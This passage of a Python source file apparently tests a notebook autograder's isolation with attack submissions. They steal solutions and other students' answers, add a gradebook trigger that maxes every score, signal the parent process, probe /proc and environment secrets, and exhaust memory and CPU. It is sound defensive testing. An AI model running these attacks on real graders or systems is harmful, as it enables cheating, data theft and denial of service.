    notebook["cells"][at:at] = [twin, code("checks.question = lambda name: None", "early")]
    return notebook


# --- holes in the walls -----------------------------------------------------------------------------------------------


def _breach(made, probe):
    """An answer that is right only where the probe, which sets BREACHED, found a hole."""
    probe = "BREACHED = False\n" + textwrap.dedent(probe).strip()
    return made.answer("describe_data", at_call="if not BREACHED:\n    return {}", at_definition=probe)


def _stolen(probe):
    """An answer that is whatever source the probe found under ANSWER; else wrong."""
    found = "if ANSWER:\n    exec(ANSWER)"
    return f'ANSWER = ""\n{textwrap.dedent(probe).strip()}\n\n{_EMPTY[0]}\n{found}\n'


_READ = """
import json

def answer_of(text):
    # the answer in a notebook (one that kept its docstring and is answered), or in a lesson's source
    try:
        cells = ["".join(cell["source"]) for cell in json.loads(text)["cells"]]
    except ValueError:
        cells = [text[text.find("# question: describe_data"):text.find("### END SOLUTION")]]
    for cell in cells:
        if "def describe_data(" in cell and chr(34) * 3 in cell and not any(word in cell for word in WORDS):
            return cell
    return ""

WORDS = ("NotImplementedError", "BREACHED", "ANSWER")
"""


@_attack()
def source_folder_searched(made):
    """The lesson's source, with its solutions, is looked for above the working folder and where the course was."""
    root = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
    return _stolen(_READ + f"""
import pathlib
for folder in [*pathlib.Path.cwd().parents, pathlib.Path.home(), pathlib.Path("{root}"), pathlib.Path("/course")]:
    for pattern in ("source/*/*.ipynb", "solutions/*/*.py", ".build/nbgrader/source/*/*.ipynb"):
        try:
            for path in folder.glob(pattern):
                ANSWER = ANSWER or answer_of(path.read_text())
        except OSError:
            pass
""")


@_attack()
def other_submissions_searched(made):
    """Another student's notebook is looked for, and its answer taken."""
    return _stolen(_READ + """
import glob, os, tempfile
places = [os.path.join(os.getcwd(), *[".."] * n) for n in range(1, 6)] + [tempfile.gettempdir(), "/tmp", "/dev/shm", "/data"]
for place in places:
    for pattern in ("submitted/*/*/*.ipynb", "*/*.ipynb", "*.ipynb"):
        for path in glob.glob(os.path.join(place, pattern)):
            try:
                ANSWER = ANSWER or answer_of(open(path).read())
            except (OSError, UnicodeDecodeError):
                pass
""")


@_attack()
def gradebook_searched(made):
    """The gradebook is looked for above the working folder; a trigger in it turns each mark into the maximum."""
    return _with(above="""
        import pathlib, sqlite3
        for folder in list(pathlib.Path.cwd().parents)[:4]:
            path = folder / "gradebook.db"
            if path.is_file():
                with sqlite3.connect(path) as gradebook:
                    gradebook.execute(
                        "CREATE TRIGGER t AFTER INSERT ON grade BEGIN "
                        "UPDATE grade SET score = max_score WHERE rowid = NEW.rowid; END"
                    )
    """)


@_attack()
def breach_network(made):
    """Somebody on this machine is asked for the answer over the network."""
    return _stolen("""
        import urllib.request
        try:
            ANSWER = urllib.request.urlopen("http://127.0.0.1:PORT/", timeout=5).read().decode()
        except OSError:
            pass
    """)


@_attack(outcomes=_ENDED)
def breach_signals(made):
    """Is there a process, beside its own, that takes a signal (0, which does nothing) from an answer?"""
    return _breach(made, """
        import glob, os
        for pid in {os.getppid(), *(int(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*"))}:
            try:
                if pid not in (0, os.getpid()) and pid > 1:
                    os.kill(pid, 0)
                    BREACHED = True
            except OSError:
                pass
    """)


@_attack(outcomes=_ENDED, why_not="it would end the grader, which gives nobody a mark")
def signals_to_its_group(made):
    """SIGTERM to the parent: behind a wall the parent's number is 0, and that means every process of the group."""
    return _with(above="""
        import os, signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
    """).replace("    return {}", "    os.kill(os.getppid(), signal.SIGTERM)\n    return {}")


@_attack()
def breach_proc(made):
    """Can memory, environment, files or folders of another process be opened under /proc?"""
    return _breach(made, """
        import glob, os
        for name in ("mem", "environ", "maps", "fd", "cwd", "root"):
            for path in glob.glob(f"/proc/[0-9]*/{name}"):
                try:
                    pid = path.split("/")[2]
                    if pid in (str(os.getpid()), os.readlink("/proc/self")):
                        continue
                    if name in ("cwd", "root"):
                        os.listdir(path)
                    elif name == "fd":
                        [os.readlink(f"{path}/{number}") for number in os.listdir(path)][0]
                    else:
                        open(path, "rb").read(0 if name == "mem" else 1)
                    BREACHED = True
                except (OSError, IndexError):
                    pass
    """)


@_attack(why_not="what an in-process grader inherited depends on who started it")
def breach_descriptors(made):
    """Is any descriptor open that is neither one of the standard three, nor a device, nor the one socket?"""
    return _breach(made, """
        import os, stat
        kinds = []
        for descriptor in range(3, 1000):
            try:
                kinds.append(os.fstat(descriptor).st_mode)
            except OSError:
                pass
        sockets = [mode for mode in kinds if stat.S_ISSOCK(mode)]
        BREACHED = len(sockets) > 1 or any(stat.S_ISREG(mode) or stat.S_ISDIR(mode) for mode in kinds)
    """)


@_attack()
def breach_environment(made):
    """Does the environment say who grades, where, or with which seed?"""
    return _breach(made, """
        import os
        words = ("SEED", "SECRET", "TOKEN", "PASSWORD", "KEY", "SSH", "SUDO", "USER", "LOGNAME", "OLDPWD", "SHLVL")
        BREACHED = any(name.split("_")[-1] in words or name.split("_")[0] in words for name in os.environ)
    """)


@_attack(why_not="whether it holds depends on who runs the in-process grader")
def breach_capabilities(made):
    """Does the answer's process hold any capability, even over a namespace of its own?"""
    return _breach(made, """
        status = dict(line.split(":", 1) for line in open("/proc/self/status"))
        BREACHED = any(int(status[name], 16) for name in ("CapEff", "CapPrm", "CapInh", "CapAmb"))
        BREACHED = BREACHED or int(status["NoNewPrivs"]) != 1
    """)


@_attack(why_not="whether it holds depends on who runs the in-process grader")
def breach_writable(made):
    """Can anything be written that a later submission would load or see?"""
    return _breach(made, """
        import os, sys, tempfile
        folders = {"/", "/course", "/course/grading", "/data", "/caches", "/dev", "/etc", "/usr", "/usr/lib", sys.prefix, *sys.path}
        folders |= {os.path.dirname(m.__file__) for m in list(sys.modules.values()) if getattr(m, "__file__", None)}
        own = os.path.realpath(tempfile.gettempdir())
        for folder in folders:
            if os.path.isdir(folder) and not os.path.realpath(folder).startswith(own) and os.access(folder, os.W_OK):
                BREACHED = True
    """)


@_attack(why_not="whether it holds depends on the machine")
def breach_machine(made):
    """Are there devices, sockets of services, or network interfaces beside the loopback?"""
    return _breach(made, """
        import glob, os, socket
        paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/systemd", "/run/user", "/dev/mem", "/dev/kmsg", "/dev/sda"]
        BREACHED = any(os.path.exists(path) for path in paths) or bool(glob.glob("/home/*") or glob.glob("/root/*"))
        BREACHED = BREACHED or any(name != "lo" for _, name in socket.if_nameindex())
    """)


_NOTE_PLACES = '("/dev/shm", "/tmp", "/var/tmp", "/", "/course", "/data", "/caches", "/dev", "/run")'
_NO_NOTES = "it would write outside its own folder; in one process nothing keeps submissions apart anyway"


@_attack(why_not=_NO_NOTES)
def note_left_for_others(made):
    """The right answer is left wherever something can be written, in files and in shared memory."""
    answer = made.answer("describe_data")
    return _with(above=f"""
        import os
        from multiprocessing import resource_tracker, shared_memory
        for folder in {_NOTE_PLACES}:
            try:
                with open(os.path.join(folder, "course-note.txt"), "w") as file:
                    file.write({answer!r})
            except OSError:
                pass
        try:
            memory = shared_memory.SharedMemory("course-note", create=True, size={len(answer)})
            memory.buf[:] = {answer.encode()!r}
            resource_tracker.unregister("/course-note", "shared_memory")
        except OSError:
            pass
    """)


@_attack(why_not=_NO_NOTES)
def note_of_another_found(made):
    """The note that another submission left (see above) is looked for. The other one must be graded first."""
    return _stolen(f"""
        import os
        for folder in {_NOTE_PLACES}:
            try:
                with open(os.path.join(folder, "course-note.txt")) as file:
                    ANSWER = file.read()
            except OSError:
                pass
    """)


@_attack("standardise", _NONE, outcomes=_ENDED, why_not="its time is not limited by its own clock in any grader")
def clock_patched(made):
    """Clocks stand still and timers are cleared, while the answer computes for a minute."""
    return textwrap.dedent("""
        import signal, time
        _now, _end = time.monotonic, time.monotonic() + 60
        time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP})
    """).strip() + "\n\n" + _NONE[0].replace("return None", "while _now() < _end:\n        pass\n    return None")


@_attack(outcomes=_ENDED, why_not="in one process the answer's own memory is the grader's")
def memory_that_is_not_counted(made):
    """3 GB in shared mappings and nameless files, which no process's private memory shows."""
    return _with(above="""
        import mmap, os
        KEPT = []
        def hoard():
            for _ in range(24):
                block = mmap.mmap(-1, 2**27)
                for at in range(0, 2**27, 4096):
                    block[at] = 1
                KEPT.append(block)
    """).replace("    return {}", "    hoard()\n    return {}")


@_attack(outcomes=_ENDED, why_not="an in-process grader starts no child of its own to count")
def cpu_that_is_not_counted(made):
    """Children that are collected by nobody burn the CPU in turns of a twentieth of a second, for 20 seconds."""
    return _with(above="""
        import os, signal, time
        def burn():
            signal.signal(signal.SIGCHLD, signal.SIG_IGN)
            end = time.monotonic() + 20
            while time.monotonic() < end:
                if os.fork() == 0:
                    stop = time.process_time() + 0.05
                    while time.process_time() < stop:
                        pass
                    os._exit(0)
                time.sleep(0.05)
    """).replace("    return {}", "    burn()\n    return {}")


@_attack(outcomes=_ENDED, why_not="an in-process grader runs each cell once")
def dies_at_random(made):
    """Added cells die with a chance of one half each time that they run, so that going back never ends."""
    cell = "import os\nif os.urandom(1)[0] < 128:\n    os._exit(0)"
    return add(made.filled(("standardise", "epoch_to_keep"), describe_data=_EMPTY[0]), *([cell] * 20))


